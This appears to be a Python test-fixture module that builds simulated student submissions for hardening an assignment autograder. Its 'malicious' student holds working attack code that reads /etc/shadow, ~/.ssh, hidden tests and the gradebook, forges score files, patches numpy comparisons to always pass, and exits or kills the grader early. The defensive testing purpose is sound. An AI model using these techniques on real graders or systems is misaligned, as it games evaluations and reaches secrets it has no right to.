"""A class of simulated students for assignment 2 (the demo, tests and benchmarks).

Every student's work is built from the course itself: the released notebooks
and stubbed ``cs231n/`` (``release/<a>/``) and the reference package
(``solutions/<a>/cs231n/``; the solution markers are comments, so the
reference files run as they are).  Kinds:

``reference``  the reference solution (full marks);
``untouched``  the release handed back as is (every graded function a stub: 0);
``partial``    optimizers and the sandwich layer done, everything else a stub;
``bug-*``      the reference with one planted bug (momentum sign, Adam without
               bias correction, non-inverted dropout, ReLU letting negatives
               through in backward, affine without bias); each loses points on
               the part named in :data:`BUG_PARTS`;
``malicious``  the untouched release plus attempts to raise its score or reach
               the grader (:data:`MALICIOUS_PRELUDE`, :data:`MALICIOUS_FUNCTIONS`):
               forged result files, a forged done-marker and gradebook, numpy's
               comparison functions patched to always agree, ``os._exit(0)`` /
               ``sys.exit(0)`` / killing its parent inside graded functions,
               graded notebook cells rewritten to print full points, reading the
               hidden tests, the reference and the gradebook, the network.  Every
               attempt must fail: it scores 0, and nothing it writes reaches the
               course (each write carries the text :func:`pwned_mark`);
``malformed``  one notebook that is not JSON (its ``cs231n/`` is the reference);
``missing``    ``Dropout.ipynb`` and ``cs231n/optim.py`` left out (the notebook's parts are
               graded from the code; the optimizers score 0).
"""
from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

from autograder import paths

# (file inside cs231n/, text in the reference, replacement)
BUGS: dict[str, tuple[str, str, str]] = {
    "bug-momentum-sign": ("optim.py",
                          'v = config["momentum"] * v - config["learning_rate"] * dw',
                          'v = config["momentum"] * v + config["learning_rate"] * dw'),
    "bug-adam-no-bias-correction": ("optim.py", "m_hat = m / (1 - beta1 ** t)", "m_hat = m"),
    "bug-dropout-not-inverted": ("layers.py", "mask = (np.random.rand(*x.shape) < p) / p",
                                 "mask = (np.random.rand(*x.shape) < p)"),
    "bug-relu-backward": ("layers.py", "dx = dout * (x > 0)", "dx = dout * (x >= -1)"),
    "bug-affine-no-bias": ("layers.py", "out = x.reshape(x.shape[0], -1).dot(w) + b",
                           "out = x.reshape(x.shape[0], -1).dot(w)"),
}
# the graded part (grade_id) whose hidden tests each planted bug must fail
BUG_PARTS: dict[str, str] = {
    "bug-momentum-sign": "sgd_momentum",
    "bug-adam-no-bias-correction": "adam",
    "bug-dropout-not-inverted": "dropout_forward",
    "bug-relu-backward": "relu_backward",
    "bug-affine-no-bias": "affine_forward",
}


class BugNotPlanted(RuntimeError):
    """The reference no longer holds the text a planted bug replaces."""


def pwned_mark(student_id: str, root: Path) -> str:
    """The text every write of the malicious student carries (built at run time in
    its code, so the text itself appears only where a write got through)."""
    return f"PWNED-BY-{student_id}@{Path(root).resolve()}"


# Runs when cs231n/layers.py is imported (in the grading worker and in the notebook kernel).
# {root}, {sid}, {assignment} are filled in by make_student.
MALICIOUS_PRELUDE = '''
# --- simulated malicious student: every attempt below must fail or change nothing
import json as _json, os as _os, socket as _socket, sys as _sys
_ROOT, _SID, _A = {root!r}, {sid!r}, {assignment!r}
_MARK = "PWNED" + "-BY-" + _SID + "@" + _ROOT
_LOOT = {{}}
# 1. read the hidden tests, the reference, the gradebook, other students, secrets
for _p in (_ROOT + "/grading_tests/" + _A, _ROOT + "/solutions/" + _A + "/cs231n/layers.py",
           _ROOT + "/gradebook.db", _ROOT + "/submitted", "../../../grading_tests", "/etc/shadow",
           _os.path.expanduser("~/.ssh")):
    try:
        _LOOT[_p] = sorted(_os.listdir(_p))[:5] if _os.path.isdir(_p) else open(_p, "rb").read(64)
    except Exception as _e:
        _LOOT[_p] = repr(_e)
# 2. the network
try:
    _socket.create_connection(("1.1.1.1", 80), timeout=1).close()
    _LOOT["net"] = "open"
except Exception as _e:
    _LOOT["net"] = repr(_e)
# 3. forge what the grader reads or writes: its saved hidden-suite result, the done-marker,
#    the autograded notebooks, the gradebook, a Gradescope results file
_FULL = {{"score": 100.0, "max_score": 100.0, "mark": _MARK}}
_FORGED = {{
    _ROOT + "/.autograder/results/" + _SID + "/" + _A + ".json": _json.dumps({{"fingerprint": "", "result": _FULL}}),
    _ROOT + "/.grade-all/" + _A + "/" + _SID + ".json": _json.dumps(_FULL),
    _ROOT + "/autograded/" + _SID + "/" + _A + "/FullyConnectedNets.ipynb": _MARK,
    _ROOT + "/gradebook.db": _MARK,
    "../../autograded/" + _SID + "/" + _A + "/FullyConnectedNets.ipynb": _MARK,
    "../../../gradebook.db": _MARK,
    "/autograder/results/results.json": _json.dumps(_FULL),
    "/tmp/pwned-by-student": _MARK,
}}
for _p, _text in _FORGED.items():
    try:
        _os.makedirs(_os.path.dirname(_p) or ".", exist_ok=True)
        with open(_p, "a") as _f:
            _f.write(_text)
        _LOOT["wrote " + _p] = "yes"
    except Exception as _e:
        _LOOT["wrote " + _p] = repr(_e)
# 4. make every comparison agree (in case the grader compared in this process)
try:
    import numpy as _np
    _np.allclose = lambda *a, **k: True
    _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
    _np.array_equal = lambda *a, **k: True
    _np.testing.assert_allclose = lambda *a, **k: None
    _np.testing.assert_array_equal = lambda *a, **k: None
    _np.max = lambda *a, **k: 0.0
except Exception as _e:
    _LOOT["numpy"] = repr(_e)
print("simulated attack:", _LOOT)
# --- end of the attack
'''

# graded functions whose stub becomes an attempt to end the grading with success
MALICIOUS_FUNCTIONS: dict[tuple[str, str], str] = {
    ("layers.py", "affine_forward"): "import os\nos._exit(0)  # leave the worker 'successfully'",
    ("layers.py", "relu_forward"): "import sys\nsys.exit(0)",
    ("layers.py", "affine_backward"): "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos._exit(0)",
    ("optim.py", "sgd_momentum"): "raise SystemExit(0)",
    ("optim.py", "adam"): "import os\nos.kill(os.getpid(), 9)",
}

KINDS = ["reference", "untouched", "partial", *BUGS, "malicious", "malformed", "missing"]

PARTIAL_SOLVED = ["optim.py", "layer_utils.py"]


@dataclass
class SimulatedStudent:
    student_id: str
    kind: str
    path: Path
    note: str = ""


def _copy_release(release: Path, dest: Path) -> None:
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(release, dest, ignore=shutil.ignore_patterns("__pycache__", "*.pyc", ".ipynb_checkpoints"))


def _copy_reference(solutions: Path, dest: Path, files: list[str] | None = None) -> None:
    src = solutions / "cs231n"
    for f in sorted(src.rglob("*.py")):
        rel = f.relative_to(src)
        if files is None or rel.as_posix() in files:
            (dest / "cs231n" / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(f, dest / "cs231n" / rel)


def make_student(kind: str, student_id: str, dest: Path, assignment: str = "assignment2",
                 root: Path | None = None) -> SimulatedStudent:
    """Write the work of one simulated student of ``kind`` into ``dest`` (an assignment folder)."""
    root = Path(root or paths.course_root())
    release = paths.release_dir(assignment, root)
    solutions = paths.solutions_dir(assignment, root)
    dest = Path(dest)
    _copy_release(release, dest)
    note = ""
    if kind == "reference":
        _copy_reference(solutions, dest)
    elif kind == "untouched":
        pass
    elif kind == "partial":
        _copy_reference(solutions, dest, PARTIAL_SOLVED)
        note = "solved " + ", ".join(PARTIAL_SOLVED)
    elif kind in BUGS:
        _copy_reference(solutions, dest)
        fname, old, new = BUGS[kind]
        target = dest / "cs231n" / fname
        text = target.read_text()
        if old not in text:
            raise BugNotPlanted(f"{kind}: {old!r} is not in {solutions / 'cs231n' / fname}; "
                                f"update simulated_students.BUGS")
        head, _, tail = text.rpartition(old)  # the code, not a TODO comment quoting it
        target.write_text(head + new + tail)
        note = f"{fname}: {old!r} -> {new!r}"
    elif kind == "malicious":
        _make_malicious(dest, student_id, assignment, root)
        note = "untouched release + attempts to raise its score (must get 0)"
    elif kind == "malformed":
        _copy_reference(solutions, dest)
        nb = sorted(dest.glob("*.ipynb"))[0]
        nb.write_text('{"cells": [ this is not json')
        note = f"{nb.name} is not valid JSON"
    elif kind == "missing":
        _copy_reference(solutions, dest)
        nb = dest / "Dropout.ipynb"
        nb.unlink()
        (dest / "cs231n" / "optim.py").unlink()
        note = f"left out {nb.name} and cs231n/optim.py"
    else:
        raise ValueError(f"unknown kind {kind!r}; one of {KINDS}")
    return SimulatedStudent(student_id, kind, dest, note)


def _replace_stub(text: str, function: str, body: str, fname: str) -> str:
    """Replace the one-line stub of ``function`` by ``body`` (same indentation)."""
    lines = text.splitlines(keepends=True)
    for i, line in enumerate(lines):
        if line.strip().startswith("raise NotImplementedError") and f'"{function} is not' in line:
            indent = line[: len(line) - len(line.lstrip())]
            lines[i] = "".join(indent + b + "\n" for b in body.splitlines())
            return "".join(lines)
    raise BugNotPlanted(f"no stub of {function} in cs231n/{fname} of the release")


def _make_malicious(dest: Path, student_id: str, assignment: str, root: Path) -> None:
    """The untouched release in ``dest`` plus every attack (see the module doc)."""
    import nbformat

    pkg = dest / "cs231n"
    by_file: dict[str, list[tuple[str, str]]] = {}
    for (fname, function), body in MALICIOUS_FUNCTIONS.items():
        by_file.setdefault(fname, []).append((function, body))
    for fname, items in by_file.items():
        text = (pkg / fname).read_text()
        for function, body in items:
            text = _replace_stub(text, function, body, fname)
        (pkg / fname).write_text(text)
    layers = pkg / "layers.py"
    prelude = MALICIOUS_PRELUDE.format(root=str(Path(root).resolve()), sid=student_id, assignment=assignment)
    layers.write_text(layers.read_text() + "\n" + prelude)  # module level: runs at import
    # graded cells rewritten to end with their full points (nbgrader's partial-credit rule)
    for nb_path in sorted(dest.glob("*.ipynb")):
        nb = nbformat.read(nb_path, as_version=4)
        for cell in nb.cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if cell.cell_type == "code" and meta.get("grade") and not meta.get("solution"):
                cell.source = f'print("all hidden tests passed")\n{float(meta.get("points", 0))}'
                meta["points"] = 1000  # and worth more
        nbformat.write(nb, nb_path)
    # forged reports handed in with the work
    forged = {"score": 100.0, "output": "all tests passed", "tests": []}
    (dest / "results.json").write_text(json.dumps(forged))
    (dest / "grades.csv").write_text(f"student_id,score\n{student_id},100\n")


def expectation(kind: str) -> str:
    """What a student of ``kind`` must score (autograded parts), in a few words."""
    if kind in BUGS:
        return f"loses {BUG_PARTS[kind]}"
    return {"reference": "full", "untouched": "0", "partial": "some, not all", "malicious": "0",
            "malformed": "full (code)", "missing": "loses optim only"}.get(kind, "?")


def meets_expectation(kind: str, grades: dict[str, tuple[float, float]]) -> bool:
    """Whether the autograded grades ``{grade_id: (score, max)}`` of a student of ``kind``
    are what :func:`expectation` says (only the parts present in ``grades`` count)."""
    if not grades:
        return False
    got = sum(s for s, _ in grades.values())
    full = sum(m for _, m in grades.values())
    if kind in ("reference", "malformed"):
        return abs(got - full) < 1e-6
    if kind in ("untouched", "malicious"):
        return got == 0.0
    if kind == "partial":
        return 0.0 < got < full
    if kind in BUGS:
        part = BUG_PARTS[kind]
        return part in grades and grades[part][0] < grades[part][1]
    if kind == "missing":  # optim.py is missing; Dropout.ipynb's parts are graded from the code
        optim = [g for g in ("sgd_momentum", "adam") if g in grades]
        dropout_full = all(grades[g][0] == grades[g][1] for g in ("dropout_forward",) if g in grades)
        return bool(optim) and all(grades[g][0] == 0.0 for g in optim) and dropout_full
    return False


def class_roster(n: int | None = None) -> list[tuple[str, str]]:
    """``(student_id, kind)`` pairs: one of every kind, or ``n`` students cycling through them."""
    if n is None:
        return [(f"{i:02d}-{k}", k) for i, k in enumerate(KINDS, 1)]
    return [(f"s{i:03d}-{KINDS[i % len(KINDS)]}", KINDS[i % len(KINDS)]) for i in range(n)]


def build_class(dest_root: Path, roster: list[tuple[str, str]], assignment: str = "assignment2",
                root: Path | None = None) -> list[SimulatedStudent]:
    """Write every student's assignment folder as ``dest_root/<student>/<assignment>/``."""
    return [make_student(kind, sid, Path(dest_root) / sid / assignment, assignment, root)
            for sid, kind in roster]
